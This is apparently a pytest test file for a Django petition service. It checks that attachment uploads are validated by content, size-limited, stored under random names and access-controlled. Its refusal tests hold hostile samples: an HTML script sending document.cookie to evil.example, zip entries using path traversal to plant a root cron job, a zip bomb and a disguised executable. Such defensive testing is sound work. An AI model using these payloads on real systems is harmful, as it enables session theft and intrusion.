"""Attachments of petitions: real files made here, checked by content, size-limited, stored under
MEDIA_ROOT with a random name; who may attach; who may download (404 for everyone else, and
confidential files stay private even when the answer is published)."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.test import Client
from django.utils import translation

from tests.conftest import stored_files
from zonedesk.core.errors import ServiceError, TransitionError
from zonedesk.core.models import Agency, Role, Rule, User
from zonedesk.petitions import services
from zonedesk.petitions.attachments import MAX_ATTACHMENTS, attachment_add, attachment_open, clean_name
from zonedesk.petitions.models import Attachment, PetitionEvent

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]


# --- real files, made here ----------------------------------------------------------------


def make_pdf(padding: int = 0) -> bytes:
    """A minimal, valid one-page PDF with a correct cross-reference table."""
    text = b"BT /F1 12 Tf 72 720 Td (Cong van so 12) Tj ET" + b" " * padding
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xd0\x20\x30" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """A baseline JPEG of one grey 8x8 block: JFIF header, quantisation and Huffman tables, one scan."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
        + segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")  # DC: one code, category 0
        + segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00")  # AC: one code, end of block
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # DC diff 0, end of block, padded with ones
        + b"\xff\xd9"
    )


RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="{target}"/></Relationships>'
)


def content_types(overrides: dict[str, str]) -> str:
    parts = "".join(f'<Override PartName="{name}" ContentType="{ctype}"/>' for name, ctype in overrides.items())
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    )


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def make_docx(extra: dict[str, bytes] | None = None, *, types: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types or content_types({"/word/document.xml": DOCX_MAIN}))
        z.writestr("_rels/.rels", RELS.format(target="word/document.xml"))
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Kiến nghị về giải phóng mặt bằng xã Hòa Lạc</w:t></w:r></w:p></w:body>"
            "</w:document>",
        )
        for name, data in (extra or {}).items():
            z.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def make_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            content_types(
                {
                    "/xl/workbook.xml": XLSX_MAIN,
                    "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
                }
            ),
        )
        z.writestr("_rels/.rels", RELS.format(target="xl/workbook.xml"))
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Doanh thu" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
            ' Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr(
            "xl/worksheets/sheet1.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><v>30000</v></c></row></sheetData></worksheet>',
        )
    return buffer.getvalue()


def make_odf(mimetype: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)  # first, stored
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )
        z.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'office:version="1.2"><office:body/></office:document-content>',
        )
    return buffer.getvalue()


def make_exe() -> bytes:
    """The start of a Windows PE executable: DOS header, stub, PE signature and COFF header."""
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00") + bytearray(48)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub
    body += b"\x00" * (0x80 - len(body))
    return body + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + b"\x00" * 512


HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"
TEXT = "Biên bản làm việc với Sở Xây dựng ngày 20/11: còn thiếu 2 hồ sơ.\n".encode()


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> bytes:
    """A DOCX-looking archive whose one entry unpacks to 200 MB of zeros (a few hundred KB packed),
    written in chunks so that memory stays bounded."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.docx"
    chunk = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", content_types({"/word/document.xml": DOCX_MAIN}))
        z.writestr("_rels/.rels", RELS.format(target="word/document.xml"))
        with z.open("word/document.xml", "w") as entry:
            for _ in range(200):
                entry.write(chunk)
    data = path.read_bytes()
    assert len(data) < 1024 * 1024
    return data


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- petitions and people -----------------------------------------------------------------


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):  # the messages checked below are the English msgids
        yield


def _submit(zone, user, title="Chậm bàn giao mặt bằng lô CN-05"):
    return services.petition_submit(
        zone=zone,
        title=title,
        body="Doanh nghiệp chưa nhận được mặt bằng theo hợp đồng thuê đất.",
        category="land",
        enterprise=user.enterprise,
        by=user,
    )


@pytest.fixture
def petition(zone, enterprise_user):
    return _submit(zone, enterprise_user)


@pytest.fixture
def routed(petition, board_user, agency):
    p = services.petition_act(petition=petition, action="triage", by=board_user)
    return services.petition_act(petition=p, action="assign", by=board_user, lead_agency=agency)


def _answer(p, board_user, agency_user):
    services.answer_write(petition=p, by=agency_user, body="Ban Quản lý đã bàn giao mặt bằng ngày 25/11.", submit=True)
    return services.petition_act(petition=p, action="answer", by=board_user)


def _publish(p, board_user):
    return services.petition_act(
        petition=p, action="publish", by=board_user, public_summary="Doanh nghiệp hỏi về bàn giao mặt bằng."
    )


def _login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _download(client: Client, attachment: Attachment):
    return client.get(f"/api/v1/attachments/{attachment.pk}")


# --- accepted files -----------------------------------------------------------------------

ACCEPTED = [
    ("cong-van.pdf", make_pdf, "application/pdf"),
    ("mat-bang.png", make_png, "image/png"),
    ("hien-truong.JPG", make_jpeg, "image/jpeg"),
    ("hien-truong.jpeg", make_jpeg, "image/jpeg"),
    ("kien-nghi.docx", make_docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("doanh-thu.xlsx", make_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    (
        "bien-ban.odt",
        lambda: make_odf("application/vnd.oasis.opendocument.text"),
        "application/vnd.oasis.opendocument.text",
    ),
    (
        "so-lieu.ods",
        lambda: make_odf("application/vnd.oasis.opendocument.spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    ("ghi-chu.txt", lambda: TEXT, "text/plain"),
    # signs of comparison and words in angle brackets are text, not a web page
    ("so-lieu.txt", lambda: "Giá thuê < 50 USD/m² và diện tích > 2 ha; <ghi chú> kèm theo.\n".encode(), "text/plain"),
    ("bom.txt", lambda: b"\xef\xbb\xbf" + TEXT, "text/plain"),
]


@pytest.mark.parametrize(("name", "make", "content_type"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_real_files_are_accepted_and_stored_under_a_random_name(
    petition, enterprise_user, media, name, make, content_type
):
    data = make()
    a = attachment_add(petition=petition, by=enterprise_user, upload=upload(name, data, "text/html"))
    a.refresh_from_db()
    assert (a.original_name, a.content_type, a.size, a.confidential) == (name, content_type, len(data), True)
    assert a.sha256 == hashlib.sha256(data).hexdigest()
    assert re.fullmatch(rf"petitions/{petition.year}/[0-9a-f]{{32}}", a.file.name)  # never the user's name
    (path,) = stored_files(media)
    assert path == media / a.file.name and path.read_bytes() == data
    event = PetitionEvent.objects.get(petition=petition, action="attach")
    assert event.actor == enterprise_user and event.data["name"] == name and event.data["attachment"] == a.pk


def test_a_large_upload_spooled_to_a_temporary_file_is_checked_and_stored(petition, enterprise_user, media):
    data = make_pdf(padding=3 * 1024 * 1024)  # above Django's in-memory limit: a TemporaryUploadedFile
    tmp = TemporaryUploadedFile("bao-cao.pdf", "application/pdf", len(data), None)
    tmp.write(data)
    tmp.seek(0)
    a = attachment_add(petition=petition, by=enterprise_user, upload=tmp, confidential=False)
    assert a.size == len(data) and not a.confidential
    assert (media / a.file.name).read_bytes() == data
    tmp.close()  # Django moved the temporary file into the storage, as in a real request


def test_names_are_cleaned_for_display_only(petition, enterprise_user):
    a = attachment_add(
        petition=petition, by=enterprise_user, upload=upload("..\\..\\etc/Biên bản\r\n\u202egpj.exe.\x00txt", TEXT)
    )
    assert a.original_name == "Biên bản gpj.exe.txt"
    assert clean_name("../../" + "dài" * 200 + ".pdf").endswith(".pdf")
    assert len(clean_name("x" * 400 + ".pdf")) == 255
    assert clean_name("/\x07/") == "attachment"


# --- refused files: a clear `file` error, no row, nothing on disk -------------------------


def _bad_zip_entries():
    return {
        "path traversal": (
            "kien-nghi.docx",
            make_docx({"../../../../etc/cron.d/evil": b"* * * * * root sh\n"}),
            "unsafe path",
        ),
        "absolute path": ("kien-nghi.docx", make_docx({"/etc/profile.d/evil.sh": b"#!/bin/sh\n"}), "unsafe path"),
        "windows drive": ("kien-nghi.docx", make_docx({"C:\\Windows\\evil.dll": b"MZ"}), "unsafe path"),
        "macros": ("kien-nghi.docx", make_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
        "no structure": ("kien-nghi.docx", make_docx(types=content_types({})), "damaged"),
    }


REFUSED = {
    "exe renamed .pdf": ("cong-van.pdf", make_exe(), "not accepted"),
    "html renamed .png": ("anh.png", HTML, "Web pages"),
    "html as text": ("ghi-chu.txt", HTML, "Web pages"),
    # a page hidden after the first 8 KB of ordinary text (issue 21): the whole file is read
    "html after 8 KB": ("ghi-chu.txt", "Biên bản làm việc.\n".encode() * 600 + HTML, "Web pages"),
    "script cut by the reading": ("ghi-chu.txt", b"a" * (64 * 1024 - 4) + b"<script>alert(1)</script>", "Web pages"),
    "png named .pdf": ("cong-van.pdf", make_png(), "PNG"),
    "pdf named .docx": ("kien-nghi.docx", make_pdf(), "PDF"),
    "xlsx named .docx": ("kien-nghi.docx", make_xlsx(), "XLSX"),
    "docx named .zip": ("kien-nghi.zip", make_docx(), "DOCX"),
    "no extension": ("kien-nghi", make_pdf(), "PDF"),
    "text with NUL": ("ghi-chu.txt", b"abc\x00def\n", "not accepted"),
    "text not UTF-8": ("ghi-chu.txt", "Công văn".encode("cp1258"), "UTF-8"),
    "plain zip": ("kien-nghi.docx", b"PK\x05\x06" + b"\x00" * 18, "not accepted"),
    "truncated zip": ("kien-nghi.docx", make_docx()[:200], "damaged"),
    "empty": ("cong-van.pdf", b"", "empty"),
    **_bad_zip_entries(),
}


@pytest.mark.parametrize(("name", "data", "message"), REFUSED.values(), ids=list(REFUSED))
def test_bad_files_are_refused_and_nothing_is_written(petition, enterprise_user, media, name, data, message):
    with pytest.raises(ServiceError) as err:
        attachment_add(petition=petition, by=enterprise_user, upload=upload(name, data, "application/pdf"))
    assert set(err.value.message_dict) == {"file"}
    assert message in err.value.message_dict["file"][0]
    assert not Attachment.objects.exists() and stored_files(media) == []
    assert not PetitionEvent.objects.filter(action="attach").exists()


def test_a_zip_bomb_is_refused_without_unpacking_it(petition, enterprise_user, media, zip_bomb):
    with pytest.raises(ServiceError) as err:
        attachment_add(petition=petition, by=enterprise_user, upload=upload("kien-nghi.docx", zip_bomb))
    assert "zip bomb" in err.value.message_dict["file"][0]
    assert not Attachment.objects.exists() and stored_files(media) == []


def test_the_size_limit_is_the_boards_rule(petition, enterprise_user, media):
    small = make_pdf()
    big = make_pdf(padding=2000 - len(small))
    Rule.objects.create(key="petition.attachment_max_bytes", value=1000, effective_from=dt.date(2020, 1, 1))
    with pytest.raises(ServiceError) as err:
        attachment_add(petition=petition, by=enterprise_user, upload=upload("cong-van.pdf", big))
    assert "too large" in err.value.message_dict["file"][0] and "1000" in err.value.message_dict["file"][0].replace(
        ".", ""
    )
    assert not Attachment.objects.exists() and stored_files(media) == []
    # a file whose declared size lies is measured as it is read
    liar = upload("cong-van.pdf", big)
    liar.size = 10
    with pytest.raises(ServiceError):
        attachment_add(petition=petition, by=enterprise_user, upload=liar)
    assert stored_files(media) == []
    assert attachment_add(petition=petition, by=enterprise_user, upload=upload("ghi-chu.txt", TEXT)).size == len(TEXT)


def test_at_most_ten_attachments_per_petition(petition, enterprise_user, media):
    for i in range(MAX_ATTACHMENTS):
        attachment_add(petition=petition, by=enterprise_user, upload=upload(f"ghi-chu-{i}.txt", TEXT))
    with pytest.raises(ServiceError) as err:
        attachment_add(petition=petition, by=enterprise_user, upload=upload("cong-van.pdf", make_pdf()))
    assert "at most 10" in err.value.message_dict["file"][0]
    assert Attachment.objects.count() == MAX_ATTACHMENTS and len(stored_files(media)) == MAX_ATTACHMENTS


def test_a_failure_after_the_file_is_written_removes_it(petition, enterprise_user, media, monkeypatch):
    from zonedesk.cases import timeline

    def boom(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(timeline, "record", boom)  # the timeline step, written after the file
    with pytest.raises(RuntimeError):
        attachment_add(petition=petition, by=enterprise_user, upload=upload("cong-van.pdf", make_pdf()))
    assert not Attachment.objects.exists() and stored_files(media) == []


# --- who may attach, and when -------------------------------------------------------------


def test_who_may_attach(
    routed,
    zone,
    enterprise_user,
    other_enterprise_user,
    board_user,
    leader_user,
    admin_user,
    agency_user,
    other_agency_user,
    other_agency,
):
    third = Agency.objects.create(code="XD-HN", kind=Agency.Kind.OTHER, name_vi="Sở Xây dựng", name_en="Construction")
    coordinator = User.objects.create(username="cq3", role=Role.AGENCY, agency=third)
    routed.coordinating_agencies.add(third)
    for user in (enterprise_user, board_user, admin_user, agency_user, coordinator):
        attachment_add(petition=routed, by=user, upload=upload("ghi-chu.txt", TEXT))
    for user in (other_enterprise_user, other_agency_user, leader_user, None):
        with pytest.raises(PermissionDenied):
            attachment_add(petition=routed, by=user, upload=upload("ghi-chu.txt", TEXT))
    assert Attachment.objects.count() == 5


@pytest.mark.parametrize("end", ["reject", "merge", "close"])
def test_no_attachment_once_the_petition_is_closed(zone, enterprise_user, board_user, agency, agency_user, media, end):
    p = _submit(zone, enterprise_user)
    if end == "reject":
        services.petition_act(petition=p, action="reject", by=board_user, reason="Ngoài phạm vi.")
    elif end == "merge":
        other = _submit(zone, enterprise_user, title="Bàn giao mặt bằng lô CN-05 (lần 2)")
        services.petition_act(petition=p, action="merge", by=board_user, into=other)
    else:
        p = services.petition_act(petition=p, action="triage", by=board_user)
        p = services.petition_act(petition=p, action="assign", by=board_user, lead_agency=agency)
        p = _answer(p, board_user, agency_user)
        services.petition_act(petition=p, action="close", by=enterprise_user)
    for user in (enterprise_user, board_user):
        with pytest.raises(TransitionError):
            attachment_add(petition=p, by=user, upload=upload("ghi-chu.txt", TEXT))
    assert not Attachment.objects.exists() and stored_files(media) == []


# --- who may read -------------------------------------------------------------------------


def test_who_may_download(
    routed, enterprise_user, other_enterprise_user, board_user, leader_user, agency_user, other_agency_user
):
    data = make_pdf()
    a = attachment_add(petition=routed, by=enterprise_user, upload=upload("Công văn số 12.pdf", data))
    for user in (enterprise_user, board_user, leader_user, agency_user):
        r = _download(_login(user), a)
        assert r.status_code == 200, user.username
        assert b"".join(r.streaming_content) == data
        assert r["Content-Type"] == "application/pdf"
        assert r["Content-Disposition"].startswith("attachment;") and "C%C3%B4ng%20v%C4%83n" in r["Content-Disposition"]
        assert r["X-Content-Type-Options"] == "nosniff"
    for client in (_login(other_enterprise_user), _login(other_agency_user), Client()):
        r = _download(client, a)
        assert r.status_code == 404 and set(r.json()) == {"detail"}
    assert Client().get("/api/v1/attachments/999999").status_code == 404
    with pytest.raises(Exception) as err:
        attachment_open(attachment=a, user=other_enterprise_user)
    assert type(err.value).__name__ == "Http404"


def test_a_coordinating_agency_reads_while_it_coordinates(routed, enterprise_user, board_user):
    third = Agency.objects.create(code="XD-HN", kind=Agency.Kind.OTHER, name_vi="Sở Xây dựng", name_en="Construction")
    officer = User.objects.create(username="cq3", role=Role.AGENCY, agency=third)
    a = attachment_add(petition=routed, by=enterprise_user, upload=upload("ghi-chu.txt", TEXT))
    assert _download(_login(officer), a).status_code == 404
    routed.coordinating_agencies.add(third)
    r = _download(_login(officer), a)
    assert r.status_code == 200 and r["Content-Type"] == "text/plain; charset=utf-8"


def test_confidential_files_stay_private_after_publishing(
    routed, enterprise_user, other_enterprise_user, board_user, agency_user, other_agency_user
):
    secret = attachment_add(petition=routed, by=enterprise_user, upload=upload("hop-dong-12-ty.pdf", make_pdf()))
    open_one = attachment_add(
        petition=routed, by=board_user, upload=upload("so-do-mat-bang.png", make_png()), confidential=False
    )
    public = Client()
    assert _download(public, secret).status_code == 404
    assert _download(public, open_one).status_code == 404  # not published yet
    assert public.get(f"/api/v1/petitions/{routed.reference}/attachments").status_code == 404
    p = _publish(_answer(routed, board_user, agency_user), board_user)
    assert p.status == "published"
    assert _download(public, secret).status_code == 404
    r = _download(public, open_one)
    assert r.status_code == 200 and b"".join(r.streaming_content) == make_png()
    assert r["Content-Disposition"] == 'attachment; filename="so-do-mat-bang.png"'
    # a logged-in stranger is the public too: the open file yes, the confidential one no
    assert _download(_login(other_enterprise_user), open_one).status_code == 200
    assert _download(_login(other_agency_user), secret).status_code == 404
    listed = public.get(f"/api/v1/petitions/{routed.reference}/attachments").json()
    assert [x["original_name"] for x in listed] == ["so-do-mat-bang.png"]
    owner = _login(enterprise_user).get(f"/api/v1/petitions/{routed.reference}/attachments").json()
    assert [x["original_name"] for x in owner] == ["hop-dong-12-ty.pdf", "so-do-mat-bang.png"]


# --- the API ------------------------------------------------------------------------------


def test_upload_through_the_api(petition, enterprise_user, other_enterprise_user, media):
    url = f"/api/v1/petitions/{petition.reference}/attachments"
    client = _login(enterprise_user)
    docx = make_docx()
    r = client.post(url, {"file": upload("kien-nghi.docx", docx), "confidential": "false"})
    assert r.status_code == 201, r.content
    body = r.json()
    assert body["original_name"] == "kien-nghi.docx" and body["confidential"] is False
    assert body["content_type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert body["size"] == len(docx) and body["sha256"] == hashlib.sha256(docx).hexdigest()
    a = Attachment.objects.get(pk=body["id"])
    assert not a.confidential and (media / a.file.name).is_file()
    r = client.post(url, {"file": upload("cong-van.pdf", make_exe())})
    assert r.status_code == 422 and list(r.json()["errors"]) == ["file"]
    r = client.post(url, {"file": upload("ghi-chu.txt", TEXT)})
    assert r.status_code == 201 and r.json()["confidential"] is True  # the default
    assert client.post(url, {"confidential": "true"}).status_code == 422  # no file
    assert _login(other_enterprise_user).post(url, {"file": upload("ghi-chu.txt", TEXT)}).status_code == 404
    assert Client().post(url, {"file": upload("ghi-chu.txt", TEXT)}).status_code == 401
    assert Attachment.objects.count() == 2 and len(stored_files(media)) == 2


def test_upload_needs_the_csrf_token(petition, enterprise_user):
    client = Client(enforce_csrf_checks=True)
    client.force_login(enterprise_user)
    url = f"/api/v1/petitions/{petition.reference}/attachments"
    assert client.post(url, {"file": upload("ghi-chu.txt", TEXT)}).status_code == 403
    client.get("/api/v1/session")
    token = client.cookies["csrftoken"].value
    assert client.post(url, {"file": upload("ghi-chu.txt", TEXT)}, HTTP_X_CSRFTOKEN=token).status_code == 201


def test_a_leader_sees_but_does_not_attach(petition, leader_user):
    url = f"/api/v1/petitions/{petition.reference}/attachments"
    assert _login(leader_user).post(url, {"file": upload("ghi-chu.txt", TEXT)}).status_code == 403


# --- files sent with a new petition (the public form, the portal, the API) ----------------


def _english_client(user=None) -> Client:
    from django.conf import settings

    client = _login(user) if user else Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"  # pages are Vietnamese first
    return client


def _public_form(zone, **extra):
    return {
        "petitioner_name": "Nguyễn Thị Lan",
        "petitioner_email": "lan@example.vn",
        "petitioner_phone": "",
        "zone": zone.code,
        "title": "Đường nội khu bị ngập sau mưa",
        "body": "Đoạn đường trước nhà xưởng ngập sâu mỗi khi mưa lớn, xe tải không vào được.",
        "category": "infrastructure",
        "publish_allowed": "on",
        "consent": "on",
        "consent_version": "1",
        **extra,
    }


def _filed_public():
    from zonedesk.petitions.models import Petition

    return Petition.objects.filter(source="public")


def test_the_public_sends_files_with_the_form_and_they_stay_private_by_default(
    zone, board_user, agency, agency_user, media
):
    client = _english_client()
    data = _public_form(zone, attachments=[upload("anh-ngap.png", make_png()), upload("cong-van.pdf", make_pdf())])
    response = client.post("/petitions/new/", data)
    assert response.status_code == 302 and response["Location"].endswith("/petitions/new/thanks/")
    petition = _filed_public().get()
    files = list(petition.attachments.order_by("original_name"))
    assert [(a.original_name, a.content_type, a.confidential) for a in files] == [
        ("anh-ngap.png", "image/png", True),
        ("cong-van.pdf", "application/pdf", True),
    ]
    assert files[0].uploaded_by is None and len(stored_files(media)) == 2
    assert list(petition.events.filter(action="attach").values_list("data__name", flat=True)) == [
        "anh-ngap.png",
        "cong-van.pdf",
    ]
    # published: the public reads the answer but never the files it was not told it could
    p = services.petition_act(petition=petition, action="triage", by=board_user)
    p = services.petition_act(petition=p, action="assign", by=board_user, lead_agency=agency)
    _publish(_answer(p, board_user, agency_user), board_user)
    assert all(_download(Client(), a).status_code == 404 for a in files)
    assert _download(_login(board_user), files[0]).status_code == 200


def test_the_public_may_let_the_files_be_shown_with_the_answer(zone, board_user, agency, agency_user, media):
    data = _public_form(zone, attachments=[upload("anh-ngap.png", make_png())], attachments_public="on")
    assert _english_client().post("/petitions/new/", data).status_code == 302
    petition = _filed_public().get()
    attachment = petition.attachments.get()
    assert attachment.confidential is False
    assert _download(Client(), attachment).status_code == 404  # not before it is published
    p = services.petition_act(petition=petition, action="triage", by=board_user)
    p = services.petition_act(petition=p, action="assign", by=board_user, lead_agency=agency)
    _publish(_answer(p, board_user, agency_user), board_user)
    response = _download(Client(), attachment)
    assert response.status_code == 200 and b"".join(response.streaming_content) == make_png()


def test_one_refused_file_refuses_the_whole_petition_and_keeps_the_text(zone, media):
    data = _public_form(zone, attachments=[upload("anh-ngap.png", make_png()), upload("bao-cao.pdf", make_exe())])
    response = _english_client().post("/petitions/new/", data)
    assert response.status_code == 200
    assert not _filed_public().exists() and stored_files(media) == []
    page = response.content.decode()
    assert "bao-cao.pdf:" in page and "This type of file is not accepted." in page
    assert "Đường nội khu bị ngập sau mưa" in page  # what was typed is still there
    assert 'enctype="multipart/form-data"' in page


def test_files_are_asked_again_when_another_field_is_wrong(zone, media):
    data = _public_form(zone, title="", attachments=[upload("anh-ngap.png", make_png())])
    response = _english_client().post("/petitions/new/", data)
    assert response.status_code == 200 and not _filed_public().exists() and stored_files(media) == []
    assert "Nothing was received yet: choose the files again." in response.content.decode()


def test_files_are_asked_again_when_the_service_refuses_the_form(zone, media):
    # the form takes no contact as valid; the service asks for one: the page says so and, as with
    # a refusal of the form's own, says the files were not kept
    data = _public_form(zone, petitioner_email="", attachments=[upload("anh-ngap.png", make_png())])
    response = _english_client().post("/petitions/new/", data)
    assert response.status_code == 200 and not _filed_public().exists() and stored_files(media) == []
    page = response.content.decode()
    assert "Give an e-mail address or a phone number so that we can answer." in page
    assert "Nothing was received yet: choose the files again." in page


def test_at_most_ten_files_with_a_new_petition(zone, media):
    data = _public_form(zone, attachments=[upload(f"anh-{i}.png", make_png()) for i in range(MAX_ATTACHMENTS + 1)])
    response = _english_client().post("/petitions/new/", data)
    assert response.status_code == 200 and not _filed_public().exists() and stored_files(media) == []
    assert f"A petition can have at most {MAX_ATTACHMENTS} attachments." in response.content.decode()


def test_a_later_failure_removes_the_files_already_written(zone, enterprise_user, media, monkeypatch):
    from zonedesk.petitions import attachments as files_module
    from zonedesk.petitions.models import Petition

    real_store, calls = files_module.store, []

    def failing_store(**kwargs):
        calls.append(kwargs["checked"].name)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real_store(**kwargs)

    monkeypatch.setattr(files_module, "store", failing_store)
    with pytest.raises(RuntimeError):
        services.petition_submit(
            zone=zone,
            title="Hồ sơ cấp phép xây dựng",
            body="Chưa nhận được kết quả.",
            category="construction",
            enterprise=enterprise_user.enterprise,
            by=enterprise_user,
            attachments=[upload("a.pdf", make_pdf()), upload("b.pdf", make_pdf())],
        )
    assert calls == ["a.pdf", "b.pdf"]
    assert not Petition.objects.exists() and stored_files(media) == []


def test_an_enterprise_sends_files_from_the_portal(zone, enterprise_user, other_enterprise_user, media):
    client = _english_client(enterprise_user)
    response = client.post(
        "/portal/petitions/new/",
        {
            "zone": zone.code,
            "title": "Thủ tục cấp giấy phép lao động cho chuyên gia",
            "body": "Hồ sơ của hai chuyên gia đã nộp quá hạn nhưng chưa có kết quả.",
            "category": "labour",
            "priority": "normal",
            "publish_allowed": "on",
            "attachments": [upload("ho-so.docx", make_docx()), upload("danh-sach.xlsx", make_xlsx())],
        },
    )
    assert response.status_code == 302
    from zonedesk.petitions.models import Petition

    petition = Petition.objects.get(enterprise=enterprise_user.enterprise)
    files = list(petition.attachments.order_by("original_name"))
    assert [a.original_name for a in files] == ["danh-sach.xlsx", "ho-so.docx"]
    assert all(a.confidential and a.uploaded_by == enterprise_user for a in files)
    page = client.get(f"/petitions/{petition.reference}/").content.decode()
    assert "ho-so.docx" in page and "danh-sach.xlsx" in page
    assert _download(client, files[0]).status_code == 200
    assert _download(_login(other_enterprise_user), files[0]).status_code == 404


